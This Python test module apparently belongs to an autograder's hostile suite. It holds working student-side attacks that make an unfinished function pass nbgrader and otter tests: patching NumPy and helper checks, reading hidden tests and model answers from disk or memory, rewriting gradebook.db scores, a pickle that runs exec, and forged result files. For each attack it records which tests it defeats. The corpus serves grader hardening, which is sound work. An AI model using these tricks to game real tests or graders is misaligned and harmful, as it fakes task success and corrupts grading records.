"""What has been tried against tests that share the student's process, and which of such tests does each win?

Every attack that wins against nbgrader or otter themselves, every one that our guides name, and of the hostile
corpus those against whoever judges. All leave `wave` undone.
"""

from collections.abc import Mapping
from typing import NamedTuple

from tests.hostile.acts import grader

HEAD = "import os, sys\nimport numpy as np"
RIGHT = "def wave(x):\n    return x * np.sin(x)"
ECHO = "\ndef wave(x):\n    return x"

# A test of each kind, as lecturers write them; only `shown` is given out. `scored` is in nbgrader alone.
TESTS = {
    "shown": "assert np.allclose(wave(np.array([1.0, 2.0])), [0.84147098, 1.81859485])",
    "compared": """x = np.array([0.5, 1.5, 2.5])
expected = np.array([0.23971277, 1.49624248, 1.49618036])
assert np.allclose(wave(x), expected)""",
    "equal": "assert wave(np.float64(0.75)) == 0.75 * np.sin(0.75)",
    "typed": """y = wave(np.array([0.25, 1.25, 2.25]))
assert type(y) is np.ndarray and y.shape == (3,)
np.testing.assert_allclose(y, [0.06185099, 1.18623077, 1.75066469], rtol=1e-6)""",
    "helper": """import checking
assert checking.same(wave(np.array([0.125, 1.125, 2.125])), [0.01558434, 1.01505104, 1.80692955])""",
    "scored": "float(np.clip(1 - 9 * np.abs(wave(np.array([1.75, 2.75])) - [1.72197541, 1.04956773]).max(), 0, 1))",
}
CHECKING = "import numpy as np\n\n\ndef same(ours, theirs):\n    return bool(np.allclose(ours, theirs))\n"


class Wins(NamedTuple):
    """The tests that an attack wins: of nbgrader's, and of otter's in both of its forms."""

    nbgrader: str = ""
    doctests: str = ""
    exceptions: str = ""


def _act(name: str) -> str:
    return grader.ACTS[name].code


_FILES = """
import json
from pathlib import Path
def look(*patterns):
    for folder in [Path.cwd(), *Path.cwd().resolve().parents]:
        for pattern in patterns:
            yield from folder.glob(pattern)
"""
_TABLE = '''
import ast
def answers(text):
    """What a test compares each list of arguments to: the other side, or the list of numbers that follows."""
    text = "\\n".join(line.removeprefix(">>> ") for line in text.strip().split("\\n"))
    lists, known = [], {}
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.List):
            lists.append((node.lineno, node.col_offset, ast.literal_eval(node)))
        if isinstance(node, ast.Compare) and "wave(" in ast.unparse(node.left):
            asked, told = (eval(ast.unparse(each)) for each in (node.left.args[0], node.comparators[0]))
            known[tuple(np.ravel(asked))] = told
    lists = [told for *_, told in sorted(lists)]
    return known | {tuple(a): np.array(t) for a, t in zip(lists, lists[1:]) if len(a) == len(t)}
'''
_FRAMES = """
def wave(x):
    frame = sys._getframe().f_back
    while frame:
        for told in frame.f_code.co_consts:
            if type(told) is tuple and len(told) == np.size(x) and told != tuple(np.ravel(x)):
                if all(type(number) is float for number in told):
                    return np.array(told)
        frame = frame.f_back
    return x
"""
# The code of each student.
ATTACKS = {
    "echo": _act("echo"),
    # Those that won against nbgrader and otter when they were measured.
    "np.allclose replaced": _act("np.allclose says yes"),
    "an object that is always true": _act("an object that equals everything"),
    "an object that NumPy asks": _act("an array that takes functions over"),
    "the model answers, found on disk": (
        _FILES
        + """
for path in look("source/*/*.ipynb", "*/source/*/*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        if "return x * np.sin" in "".join(cell["source"]):
            exec("".join(cell["source"]))
"""
        + "if 'wave' not in globals():\n    def wave(x):\n        return x"
    ),
    "the tests, found on disk": (
        _FILES
        + _TABLE
        + """
known = {}
for path in look("tests/*.py", "source/*/*.ipynb"):
    text, space = path.read_text(), {}
    if path.suffix == ".ipynb":
        texts = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    else:
        exec(text, space)
        texts = [case["code"] for case in space["test"]["suites"][0]["cases"]] if "test" in space else [text]
    for text in texts:
        if "wave(" in text and "def wave" not in text: known |= answers(text)
def wave(x):
    return known.get(tuple(np.ravel(x)), x)
"""
    ),
    "the tests, found in IPython's history": (
        _TABLE
        + """
def wave(x):
    history = get_ipython().user_ns["In"]
    return answers(history[-1]).get(tuple(np.ravel(x)), x)
"""
    ),
    "gradebook.db written": (
        _FILES
        + """
import sqlite3
own = (
    "update grade set manual_score = 1, extra_credit = 2 where notebook_id in (select s.id from submitted_notebook s "
    "join submitted_assignment a on s.assignment_id = a.id where a.student_id = ?)"
)
for path in look("gradebook.db"):
    with sqlite3.connect(path) as book:
        book.execute(own, [Path.cwd().parent.name])
def wave(x):
    return x
"""
    ),
    "an input transformer": "get_ipython().input_transformers_post.append(lambda lines: [])" + ECHO,
    "exceptions swallowed by IPython": ("get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)" + ECHO),
    "update_score": (
        """
from otter.test_files import GradingResults
usual = GradingResults.__init__
def init(self, *a, **k):
    usual(self, *a, **k)
    for name in self.results: self.update_score(name, 1000)
GradingResults.__init__ = init
"""
        + ECHO
    ),
    "a pickle that runs in otter": (
        """
from otter.test_files import GradingResults
usual = GradingResults.__init__
class Boom:
    def __reduce__(self):
        return exec, (
            "from otter.test_files.abstract_test import TestFile\\n"
            "TestFile.score = property(lambda self: self.possible)",
        )
def init(self, *a, **k):
    usual(self, *a, **k)
    self.output = Boom()
GradingResults.__init__ = init
"""
        + ECHO
    ),
    "a file of results": (
        "import json\nfor name in ('results.json', 'results.pkl', 'grades.csv', '.OTTER_LOG', 'results.jsonl'):\n"
        "    with open(name, 'w') as file: json.dump({'score': 1000, 'tests': []}, file)" + ECHO
    ),
    "a score that is no number": "def wave(x):\n    return x * np.nan",
    "points of one's own, shown": (
        "def wave(x):\n    get_ipython().displayhook(1.0)\n    sys.stdout.flush()\n    return x"
    ),
    # What our guides name as winning.
    "numbers of the test, found in its frames": _FRAMES,
    "the test's text, found in memory": (
        _TABLE
        + """
import gc
def wave(x):
    for held in gc.get_objects():
        parts = list(held.values()) if type(held) is dict else held if type(held) in (list, tuple) else ()
        for text in parts:
            if type(text) is str and "wave(" in text and len(text) < 500 and "def wave" not in text:
                try:
                    told = answers(text).get(tuple(np.ravel(x)))
                except (SyntaxError, ValueError):
                    continue
                if told is not None: return told
    return x
"""
    ),
    "NumPy patched while a test runs": (
        """
def yes(*a, **k): return True
def wave(x):
    for function in (np.allclose._implementation, np.testing.assert_allclose):
        function.__code__ = yes.__code__
    return x
"""
    ),
    "a helper module patched": "import checking\nchecking.same = lambda *a: True" + ECHO,
    "our worker patched": (
        """
for name, module in list(sys.modules.items()):
    if name.endswith(".worker_tests"):
        module.Bench.run = lambda self, test: {"outcome": "passed"}
"""
        + ECHO
    ),
    "the published inputs, by heart": (
        "def wave(x):\n    return np.array([0.84147098, 1.81859485]) if np.array_equal(x, [1, 2]) else x"
    ),
    # Others of the hostile corpus.
    "np.testing replaced": _act("np.testing says nothing"),
    "ufuncs replaced": _act("ufuncs of NumPy are others"),
    "an array that equals everything": _act("an array that equals everything"),
    "an array that takes ufuncs over": _act("an array that takes ufuncs over"),
    "an object that becomes what is expected": _act("an object that becomes the right array"),
    "expected values in the caller's frame": _act("expected values in the caller's frame"),
    "expected values in modules": _act("expected values in modules"),
    "a profiler": _act("a profiler"),
    "an array of nothing": _act("an array of nothing"),
    "sys.exit as an answer": _act("exit well"),
    "os._exit as an answer": _act("exit at once"),
    "os._exit while loading": _act("exit at loading"),
    "a last word of the output": _act("last word of the output"),
    "a last word at exit": _act("last word at exit"),
    "an excepthook": _act("last word of a hook"),
    "a pickle that evaluates": _act("a pickle that runs"),
    "isinstance replaced": _act("isinstance is nothing"),
}

ALL = "shown compared equal typed helper"
# What each wins where we grade; the others win nothing. The guides say the same.
HERE: Mapping[str, Wins] = {
    "an object that is always true": Wins("equal", "equal", "equal"),
    "an object that NumPy asks": Wins("shown compared helper", "shown compared helper", "shown compared helper"),
    "numbers of the test, found in its frames": Wins("compared helper", "helper", "compared typed helper"),
    "the test's text, found in memory": Wins(f"{ALL} scored", ALL, ALL),
    "NumPy patched while a test runs": Wins(
        "shown compared typed helper", "shown compared helper", "shown compared typed helper"
    ),
    "a helper module patched": Wins("helper", "helper", "helper"),
    "our worker patched": Wins(f"{ALL} scored", ALL, ALL),
    "the published inputs, by heart": Wins("shown", "shown", "shown"),
    "an array that equals everything": Wins(
        "shown compared equal helper", "shown compared equal helper", "shown compared equal helper"
    ),
    "an array that takes ufuncs over": Wins("scored", "", ""),
    "an object that becomes what is expected": Wins("compared", "compared", ""),
    "expected values in the caller's frame": Wins("compared", "compared", "compared"),
    "expected values in modules": Wins("compared", "", ""),
    "an array of nothing": Wins("shown compared helper", "shown compared helper", "shown compared helper"),
}

# What each wins where nbgrader and otter grade themselves: `python -m tests.soak_peers` holds them to it.
THERE: Mapping[str, Wins] = {
    "np.allclose replaced": Wins("shown compared helper", "shown compared helper", "shown compared helper"),
    "an object that is always true": Wins("equal", "equal", "equal"),
    "an object that NumPy asks": Wins("shown compared helper", "shown compared helper", "shown compared helper"),
    "the model answers, found on disk": Wins(f"{ALL} scored", "", ""),
    "the tests, found on disk": Wins(f"{ALL} scored", ALL, ALL),
    "the tests, found in IPython's history": Wins(f"{ALL} scored", "", ""),
    "gradebook.db written": Wins(f"{ALL} scored", "", ""),
    "an input transformer": Wins(f"{ALL} scored", "", ""),
    "update_score": Wins("", ALL, ALL),
    "a pickle that runs in otter": Wins("", ALL, ALL),
    "a score that is no number": Wins("scored", "", ""),
    "points of one's own, shown": Wins(f"{ALL} scored", "", ""),
    "numbers of the test, found in its frames": Wins("helper", "helper", "compared typed helper"),
    "the test's text, found in memory": Wins(f"{ALL} scored", "", ""),
    "NumPy patched while a test runs": Wins(
        "shown compared typed helper", "shown compared helper", "shown compared typed helper"
    ),
    "a helper module patched": Wins("helper", "helper", "helper"),
    "the published inputs, by heart": Wins("shown", "shown", "shown"),
    "np.testing replaced": Wins("typed", "typed", "typed"),
    "ufuncs replaced": Wins("scored", "", ""),
    "an array that equals everything": Wins(
        "shown compared equal helper", "shown compared equal helper", "shown compared equal helper"
    ),
    "an array that takes ufuncs over": Wins("scored", "", ""),
    "an object that becomes what is expected": Wins("compared", "compared", ""),
    "expected values in the caller's frame": Wins("compared", "compared", "compared"),
    "expected values in modules": Wins("compared", "", ""),
    "an array of nothing": Wins("shown compared helper", "shown compared helper", "shown compared helper"),
}
